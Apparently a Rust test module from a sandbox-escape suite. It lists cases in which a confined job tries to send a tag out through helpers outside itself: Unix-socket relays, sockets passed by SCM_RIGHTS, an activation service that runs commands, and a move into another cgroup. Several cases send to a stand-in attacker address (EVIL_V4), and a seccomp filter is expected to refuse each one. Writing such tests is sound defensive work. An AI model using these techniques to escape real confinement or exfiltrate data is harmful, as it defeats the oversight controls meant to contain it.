//! Processes outside the job that act for it: over Unix sockets, by descriptors, as services.

use std::net::SocketAddr;
use std::os::fd::OwnedFd;

use nix::errno::Errno;

use crate::escape::accomplice::{Gift, Service, abstract_relay, datagram_relay};
use crate::escape::case::{Case, Refused, Targets, Unrecorded, at as failed, by, io_at};
use crate::escape::sys;
use crate::harness::network::EVIL_V4;

type Result = std::result::Result<(), Refused>;

/// Where nothing judges Unix sockets, the filter refuses them all; what is judged is in the report.
const UNIX: &[Unrecorded] = &[by("seccomp", "socket", Errno::EPERM)];

pub(super) const CASES: &[Case] = &[
    Case::new(
        "unix-relay",
        &["G13", "G18"],
        "A daemon that sends what it reads on a Unix socket, by its path.",
        |targets| {
            let tag = targets.tag();
            Service::Relay
                .ask(&targets.directory, tag.as_bytes())
                .map(drop)
        },
    )
    .stopped_by(UNIX),
    Case::new(
        "unix-relay-abstract",
        &["G18"],
        "The same by an abstract name, which no file permission guards.",
        |targets| {
            let socket = sys::unix(libc::SOCK_STREAM)?;
            sys::connect(
                &socket,
                &sys::unix_address(&abstract_relay(&targets.directory)),
            )?;
            sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
        },
    )
    .stopped_by(UNIX),
    Case::new(
        "unix-relay-datagram",
        &["G18", "P35"],
        "The same with datagrams: nothing is connected.",
        |targets| {
            let socket = sys::unix(libc::SOCK_DGRAM)?;
            let relay = datagram_relay(&targets.directory);
            let to = sys::unix_address(relay.as_os_str().as_encoded_bytes());
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
        },
    )
    .stopped_by(UNIX),
    Case::new(
        "unix-relay-symlink",
        &["G13"],
        "The same by a symbolic link of the job's own.",
        |targets| {
            let link = std::env::temp_dir().join(format!("escape-{}", std::process::id()));
            std::os::unix::fs::symlink(Service::Relay.path(&targets.directory), &link)
                .map_err(io_at("symlink"))?;
            let sent = sys::unix(libc::SOCK_STREAM).and_then(|socket| {
                let to = sys::unix_address(link.as_os_str().as_encoded_bytes());
                sys::connect(&socket, &to)?;
                sys::send(&socket, targets.tag().as_bytes(), 0)
            });
            std::fs::remove_file(&link).map_err(io_at("unlink"))?;
            sent.map(drop)
        },
    )
    .stopped_by(UNIX),
    Case::new(
        "scm-rights-udp",
        &["G15", "P33"],
        "An unconnected UDP socket made outside, received over a Unix socket.",
        |targets| {
            let socket = given(Gift::Udp, targets)?;
            let to = sys::address(targets.at(EVIL_V4));
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
        },
    )
    .stopped_by(UNIX),
    Case::new(
        "scm-rights-tcp",
        &["G15", "P33"],
        "An unconnected TCP socket made outside, received and then connected.",
        |targets| {
            let socket = given(Gift::Tcp, targets)?;
            let to: SocketAddr = targets.at(EVIL_V4);
            sys::connect(&socket, &sys::address(to))?;
            sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
        },
    )
    .stopped_by(UNIX),
    Case::new(
        "scm-rights-udp-connected",
        &["G15", "P33"],
        "A UDP socket connected outside, received over a Unix socket.",
        |targets| {
            let socket = given(Gift::ConnectedUdp, targets)?;
            sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
        },
    )
    .stopped_by(UNIX),
    Case::new(
        "scm-rights-tcp-connected",
        &["G15", "P08", "P33"],
        "A TCP connection opened outside, received over a Unix socket.",
        |targets| {
            let socket = given(Gift::ConnectedTcp, targets)?;
            sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
        },
    )
    .stopped_by(UNIX),
    Case::new(
        "activation",
        &["G14"],
        "A service outside runs a command for whoever asks, as `systemd-run` does.",
        |targets| {
            let program = std::env::current_exe().map_err(io_at("readlink"))?;
            let line = format!("{}\0escape-send\0{}\0", program.display(), targets.tag());
            let socket = Service::Activation.ask(&targets.directory, line.as_bytes())?;
            sys::recv(&socket, &mut [0; 16]).map(drop)
        },
    )
    .stopped_by(UNIX),
    Case::new(
        "moved-out",
        &["G16"],
        "A service outside moves the process into another cgroup, then it sends.",
        |targets| {
            moved(targets)?;
            let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
            let to = sys::address(targets.at(EVIL_V4));
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
        },
    )
    .stopped_by(UNIX),
    Case::new(
        "moved-out-old-socket",
        &["G16"],
        "The same with a socket that was made in the job.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
            moved(targets)?;
            sys::connect(&socket, &sys::address(targets.at(EVIL_V4)))?;
            sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
        },
    )
    .stopped_by(UNIX),
    Case::new(
        "moved-out-child",
        &["G16"],
        "The same by a child of the process that was moved.",
        |targets| {
            moved(targets)?;
            let child = sys::forked(|| {
                let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
                let to = sys::address(targets.at(EVIL_V4));
                sys::sendto(&socket, targets.tag().as_bytes(), 0, &to)
            })?;
            sys::wait(child)
        },
    )
    .stopped_by(UNIX),
];

fn given(gift: Gift, targets: &Targets) -> std::result::Result<OwnedFd, Refused> {
    sys::receive(&Service::Giver.ask(&targets.directory, &[gift as u8])?)
}

/// Asks to be moved; whether it was is seen by what arrives.
fn moved(targets: &Targets) -> Result {
    let socket = Service::Mover.ask(&targets.directory, b"?")?;
    let mut answer = [0; 16];
    let length = sys::recv(&socket, &mut answer)?;
    match answer.get(..length) {
        Some(b"moved") => Ok(()),
        _ => Err(failed("move")(Errno::EIO)),
    }
}
